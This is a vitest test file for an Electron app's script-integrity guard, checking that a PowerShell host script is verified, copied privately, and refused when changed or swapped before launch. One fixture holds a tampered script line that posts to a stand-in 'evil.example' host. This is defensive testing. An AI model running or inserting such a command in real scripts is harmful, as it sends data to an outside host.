import { EventEmitter } from 'node:events';
import { PassThrough } from 'node:stream';
import { describe, expect, it, vi } from 'vitest';
import { isAppError } from '../../../../shared/contract';
import { scriptDigest, verifiedSpawn } from '../../../../electron/integrity';
import type { PrivateCopyFs } from '../../../../electron/integrity';
import { createPepClient } from '../../../../electron/pep';
import type { HostProcess, SpawnHost } from '../../../../electron/pep/host-process';

const script = '/opt/azs-registrar/resources/pep-host.ps1';
const original = Buffer.from('Set-StrictMode -Version 3\nexit 0\n');
const evil = Buffer.from('Set-StrictMode -Version 3\nInvoke-WebRequest https://evil.example/ -Method Post\nexit 0\n');
const fakeProcess = (): HostProcess & EventEmitter =>
  Object.assign(new EventEmitter(), { stdin: new PassThrough(), stdout: new PassThrough(), stderr: new PassThrough(), pid: 42, kill: () => true });
const OPTIONS = { env: {}, windowsHide: true, shell: false, stdio: 'pipe' } as const;

/** An in-memory file system; `onWrite` lets a test swap the copy between its write and its check. */
const memoryFs = (files: Map<string, Uint8Array>, onWrite: (path: string) => void = () => undefined) => {
  let dirs = 0;
  const removed: string[] = [];
  const fs: PrivateCopyFs = {
    readFile: (path) => {
      const bytes = files.get(path);
      if (!bytes) throw new Error(`ENOENT: ${path}`);
      return bytes;
    },
    makeTempDir: (prefix) => `${prefix}${(dirs += 1)}`,
    writeNewFile: (path, bytes) => {
      if (files.has(path)) throw new Error(`EEXIST: ${path}`);
      files.set(path, Buffer.from(bytes));
      onWrite(path);
    },
    removeDir: (dir) => {
      removed.push(dir);
      for (const path of [...files.keys()]) if (path.startsWith(`${dir}/`)) files.delete(path);
    },
  };
  return { fs, removed };
};

const config = (fs: PrivateCopyFs) => ({ fs, script, expected: scriptDigest(original), tempDir: '/tmp/op', onCleanupError: () => undefined });

describe('verifiedSpawn', () => {
  it('runs a private copy of the verified bytes, checked again, and removes it when the host exits', () => {
    const files = new Map([[script, original]]);
    const { fs, removed } = memoryFs(files);
    const child = fakeProcess();
    const spawn = vi.fn<SpawnHost>(() => child);
    const guarded = verifiedSpawn(spawn, config(fs));

    expect(guarded('pwsh', ['-File', script], OPTIONS).pid).toBe(42);
    expect(spawn).toHaveBeenCalledWith('pwsh', ['-File', '/tmp/op/azs-pep-1/pep-host.ps1'], OPTIONS);
    expect(files.get('/tmp/op/azs-pep-1/pep-host.ps1')).toEqual(original);
    child.emit('exit', 0, null);
    expect(removed).toEqual(['/tmp/op/azs-pep-1']);
    expect(files.has('/tmp/op/azs-pep-1/pep-host.ps1')).toBe(false);
  });

  it('checks the installed script before every start', () => {
    const files = new Map([[script, original]]);
    const spawn = vi.fn<SpawnHost>(() => fakeProcess());
    const guarded = verifiedSpawn(spawn, config(memoryFs(files).fs));
    guarded('pwsh', ['-File', script], OPTIONS);
    files.set(script, evil);
    expect(() => guarded('pwsh', ['-File', script], OPTIONS)).toThrow(/changed or damaged/);
    expect(spawn).toHaveBeenCalledTimes(1);
  });

  it('refuses a copy swapped between its write and the start, and removes it', () => {
    const files = new Map([[script, original]]);
    const { fs, removed } = memoryFs(files, (path) => files.set(path, evil));
    const spawn = vi.fn<SpawnHost>(() => fakeProcess());
    expect(() => verifiedSpawn(spawn, config(fs))('pwsh', ['-File', script], OPTIONS)).toThrow(/changed or damaged/);
    expect(spawn).not.toHaveBeenCalled();
    expect(removed).toEqual(['/tmp/op/azs-pep-1']);
  });

  it('refuses a host command that does not name the verified script', () => {
    const spawn = vi.fn<SpawnHost>(() => fakeProcess());
    expect(() => verifiedSpawn(spawn, config(memoryFs(new Map([[script, original]])).fs))('pwsh', ['-File', '/elsewhere/pep-host.ps1'], OPTIONS)).toThrow(/does not name the verified script/);
    expect(spawn).not.toHaveBeenCalled();
  });

  it('makes the PEP client refuse to connect with the typed problem, without starting PowerShell', async () => {
    const spawn = vi.fn<SpawnHost>(() => fakeProcess());
    const pep = createPepClient({
      spawn: verifiedSpawn(spawn, config(memoryFs(new Map([[script, Buffer.from('tampered')]])).fs)),
      host: { command: 'powershell.exe', args: ['-File', script], env: {} },
      clock: { now: () => new Date('2026-01-01T00:00:00Z') },
      log: { info: () => undefined, warn: () => undefined, error: () => undefined },
      sleep: () => new Promise(() => undefined),
      probePort: async () => true,
    });
    const err: unknown = await pep.connect({ hosts: ['10.0.0.225'], user: 'AzureStack\\CloudAdmin', password: 'not-a-real-password' }).catch((e: unknown) => e);
    expect(isAppError(err) && err.problem.code).toBe('pep-failed');
    expect(spawn).not.toHaveBeenCalled();
  });
});
